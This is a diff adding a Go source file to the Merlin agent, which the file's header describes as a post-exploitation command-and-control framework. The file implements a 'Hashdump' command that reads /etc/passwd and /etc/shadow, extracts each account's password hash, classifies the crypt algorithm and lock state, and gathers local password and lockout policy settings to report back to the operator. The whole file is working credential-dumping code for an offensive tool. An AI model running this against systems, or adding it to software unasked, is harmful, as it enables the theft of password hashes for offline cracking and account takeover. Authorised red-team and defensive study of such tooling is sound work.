@@ -0,0 +1,199 @@
+//go:build !windows
+// +build !windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"fmt"
+	"os"
+	"runtime"
+	"strconv"
+	"strings"
+	"text/tabwriter"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// hashAlgorithms maps crypt(3) hash prefixes to their algorithm
+var hashAlgorithms = map[string]string{
+	"1":  "md5crypt",
+	"2a": "bcrypt",
+	"2b": "bcrypt",
+	"2y": "bcrypt",
+	"5":  "sha256crypt",
+	"6":  "sha512crypt",
+	"7":  "scrypt",
+	"y":  "yescrypt",
+	"gy": "gost-yescrypt",
+}
+
+// policyFiles are the files and keys that hold the local password and lockout policy
+var policyFiles = map[string][]string{
+	"/etc/login.defs":              {"PASS_MAX_DAYS", "PASS_MIN_DAYS", "PASS_MIN_LEN", "PASS_WARN_AGE", "LOGIN_RETRIES", "ENCRYPT_METHOD", "SHA_CRYPT_MIN_ROUNDS", "YESCRYPT_COST_FACTOR"},
+	"/etc/security/pwquality.conf": {"minlen", "minclass", "dcredit", "ucredit", "lcredit", "ocredit", "maxrepeat", "dictcheck"},
+	"/etc/security/faillock.conf":  {"deny", "unlock_time", "fail_interval", "even_deny_root"},
+}
+
+// Hashdump reads the local accounts from /etc/passwd and their password hashes from /etc/shadow, which requires root,
+// along with the local password and lockout policy
+func Hashdump(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Hashdump() with %+v", cmd))
+	}
+	var dump HashdumpRecord
+
+	passwd, err := os.Open("/etc/passwd")
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error opening /etc/passwd: %s", err)
+		return
+	}
+	defer passwd.Close()
+	index := make(map[string]int)
+	scanner := bufio.NewScanner(passwd)
+	for scanner.Scan() {
+		fields := strings.Split(scanner.Text(), ":")
+		if len(fields) < 7 || strings.HasPrefix(fields[0], "#") {
+			continue
+		}
+		account := AccountRecord{Name: fields[0], UID: fields[2], GID: fields[3], Comment: fields[4], Home: fields[5], Shell: fields[6]}
+		if fields[1] != "x" && fields[1] != "*" {
+			setHash(&account, fields[1])
+		}
+		index[account.Name] = len(dump.Accounts)
+		dump.Accounts = append(dump.Accounts, account)
+	}
+
+	// FreeBSD keeps the hashes in master.passwd and the other operating systems in shadow
+	shadow := "/etc/shadow"
+	if runtime.GOOS == "freebsd" {
+		shadow = "/etc/master.passwd"
+	}
+	if runtime.GOOS == "darwin" {
+		results.Stderr = "macOS stores password hashes in the ShadowHashData attribute of each user's dslocal record, not /etc/shadow"
+	} else if f, err := os.Open(shadow); err != nil {
+		results.Stderr = fmt.Sprintf("there was an error opening %s, it requires root: %s", shadow, err)
+	} else {
+		defer f.Close()
+		scanner = bufio.NewScanner(f)
+		for scanner.Scan() {
+			fields := strings.Split(scanner.Text(), ":")
+			if len(fields) < 2 || strings.HasPrefix(fields[0], "#") {
+				continue
+			}
+			i, ok := index[fields[0]]
+			if !ok {
+				continue
+			}
+			setHash(&dump.Accounts[i], fields[1])
+			// The third shadow field is the days since the epoch the password was last changed
+			if runtime.GOOS != "freebsd" && len(fields) > 2 {
+				if days, err := strconv.Atoi(fields[2]); err == nil {
+					dump.Accounts[i].LastChange = time.Unix(int64(days)*86400, 0).UTC().Format("2006-01-02")
+				}
+			}
+		}
+	}
+
+	for path, keys := range policyFiles {
+		dump.Policy = append(dump.Policy, policySettings(path, keys)...)
+	}
+
+	var sb strings.Builder
+	w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+	fmt.Fprintln(w, "Name\tUID\tGID\tLocked\tAlgorithm\tLast Change\tShell\tHash")
+	for _, a := range dump.Accounts {
+		fmt.Fprintf(w, "%s\t%s\t%s\t%t\t%s\t%s\t%s\t%s\n", a.Name, a.UID, a.GID, a.Locked, a.Algorithm, a.LastChange, a.Shell, a.Hash)
+	}
+	_ = w.Flush()
+	results.Stdout = sb.String()
+	if len(dump.Policy) > 0 {
+		results.Stdout += "\n" + findingsText(dump.Policy)
+	}
+	structured = newStructured("hashdump", dump)
+	return
+}
+
+// setHash sets the account's hash, algorithm, and if it is locked from a crypt(3) password field
+func setHash(account *AccountRecord, hash string) {
+	// A leading ! or *LOCKED* locks the account without removing the hash
+	switch {
+	case strings.HasPrefix(hash, "*LOCKED*"):
+		account.Locked = true
+		hash = strings.TrimPrefix(hash, "*LOCKED*")
+	case strings.HasPrefix(hash, "!"):
+		account.Locked = true
+		hash = strings.TrimLeft(hash, "!")
+	}
+	switch {
+	case hash == "":
+		account.Algorithm = "none"
+		if !account.Locked {
+			account.Algorithm = "empty password"
+		}
+	case hash == "*" || hash == "x":
+		account.Locked = true
+		account.Algorithm = "none"
+	case strings.HasPrefix(hash, "$"):
+		id := strings.SplitN(hash[1:], "$", 2)[0]
+		account.Algorithm = hashAlgorithms[id]
+		if account.Algorithm == "" {
+			account.Algorithm = "unknown $" + id + "$"
+		}
+	case len(hash) == 13:
+		account.Algorithm = "descrypt"
+	default:
+		account.Algorithm = "unknown"
+	}
+	account.Hash = hash
+}
+
+// policySettings returns the keys that are set in a password or lockout policy file
+func policySettings(path string, keys []string) (findings []FindingRecord) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		fields := strings.Fields(strings.Replace(line, "=", " ", 1))
+		if len(fields) == 0 {
+			continue
+		}
+		for _, key := range keys {
+			if fields[0] == key {
+				findings = append(findings, FindingRecord{Category: path, Name: key, Value: strings.Join(fields[1:], " ")})
+			}
+		}
+	}
+	return
+}